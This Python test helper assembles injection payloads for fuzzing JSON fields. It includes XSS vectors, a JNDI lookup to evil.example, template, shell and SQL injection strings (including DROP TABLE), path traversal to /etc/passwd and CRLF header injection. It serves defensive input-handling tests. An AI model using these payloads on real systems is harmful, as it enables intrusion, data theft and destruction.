# SPDX-License-Identifier: Apache-2.0
"""Texts that somebody hopes will be executed, expanded or misread: nobody's own, and a few of ours."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator
    from pathlib import Path

MARKUP: Final = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div hx-get='/sign-out' hx-trigger='load'>x</div>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
)
EXPANDED: Final = (
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "{0.__class__}",
    "$(touch /tmp/x)",
    "`id`",
    "; ls",
    "|| true",
    "' OR '1'='1",
    "1; DROP TABLE entries; --",
    '"; DELETE FROM head; --',
    "x' UNION SELECT leaf FROM entries --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "CON",
    "NUL.txt",
    "a\r\nSet-Cookie: x=1",
    "a\nx",
    "\x1b[31mred\x1b[0m",
    "a\x00b",
    "\u202egnp.exe",
    "e\u0301",
    "\ufeff",
    "\U000e0041",
    "\ud800",
    "A" * 100_000,
    "﷽" * 60,
    "𠮷" * 30,
)


def texts(vectors: Path) -> list[str]:
    """Naughty strings, spreadsheet formulas, and ours; each once."""
    naughty = json.loads((vectors / "blns" / "blns.json").read_text(encoding="utf-8"))
    formulas = [
        line
        for file in sorted((vectors / "csv-injection" / "Intruder").iterdir())
        for line in file.read_text(encoding="utf-8").splitlines()
    ]
    signs = [f"{sign}1+1" for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")]
    return list(dict.fromkeys([*naughty, *formulas, *signs, *MARKUP, *EXPANDED]))


def leaves(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Where a text stands in a JSON value."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from leaves(inner, (*path, name))
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield from leaves(inner, (*path, number))
    elif isinstance(value, str):
        yield path


def one_of_each(paths: Iterable[tuple[str | int, ...]]) -> list[tuple[str | int, ...]]:
    """Of places that differ by positions in lists alone the first: the same line reads them all."""
    found: dict[tuple[str, ...], tuple[str | int, ...]] = {}
    for path in paths:
        found.setdefault(tuple("[]" if isinstance(step, int) else step for step in path), path)
    return list(found.values())


def with_text(value: Any, path: tuple[str | int, ...], text: str) -> Any:
    """The same value with another text there."""
    if not path:
        return text
    if isinstance(value, dict):
        return {
            name: with_text(one, path[1:], text) if name == path[0] else one for name, one in value.items()
        }
    return [with_text(one, path[1:], text) if number == path[0] else one for number, one in enumerate(value)]


def holds(value: Any, text: str) -> bool:
    """Whether a text stands in a JSON value, as itself."""
    if isinstance(value, dict):
        return any(holds(inner, text) for inner in value.values())
    if isinstance(value, list):
        return any(holds(inner, text) for inner in value)
    return bool(value == text)
